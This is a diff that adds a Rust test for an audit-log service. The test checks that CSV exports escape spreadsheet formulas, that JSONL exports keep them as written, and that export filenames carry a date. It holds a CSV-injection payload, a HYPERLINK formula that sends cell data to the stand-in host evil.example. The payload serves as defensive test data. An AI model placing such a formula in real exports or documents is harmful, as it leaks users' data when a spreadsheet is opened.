@@ -153,6 +153,29 @@ fn the_log_is_exported_as_csv_and_as_lines_in_the_same_pages() {
 }
 
 #[test]
+fn no_export_has_a_formula_in_it_and_each_has_the_name_of_a_file() {
+    let (_server, admin) = started();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    admin.post(LOG, json!({"action": "chat.x", "category": "chat", "reason": formula})).is(201);
+    admin.post(&format!("{LOG}/2/resolve"), json!({"note": "@SUM(1)"})).is(200);
+    let csv = admin.get(&format!("{LOG}?format=csv")).is(200);
+    let quoted = "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"";
+    assert!(csv.text.contains(&format!(",{quoted},")) && csv.text.contains(",'@SUM(1),"), "{}", csv.text);
+    let lines = admin.get(&format!("{LOG}?format=jsonl")).is(200);
+    let entry: Value = serde_json::from_str(lines.text.lines().nth(1).unwrap()).unwrap();
+    assert_eq!(entry["reason"], formula, "as it was written");
+    let team = admin.get("/v1/audit-log?format=csv").is(200);
+    for (answer, begins, ends) in
+        [(csv, "acme-audit-", ".csv"), (lines, "acme-audit-", ".jsonl"), (team, "audit-", ".csv")]
+    {
+        let saved = answer.header("content-disposition").unwrap();
+        let name = saved.strip_prefix("attachment; filename=\"").and_then(|rest| rest.strip_suffix('"')).unwrap();
+        let day = name.strip_prefix(begins).and_then(|rest| rest.strip_suffix(ends)).unwrap();
+        assert!(day.len() == 10 && day.starts_with("20"), "{name}");
+    }
+}
+
+#[test]
 fn the_application_adds_entries_of_its_own() {
     let (server, admin) = started();
     let app = key(&server, "backend", &["ingest"], None);
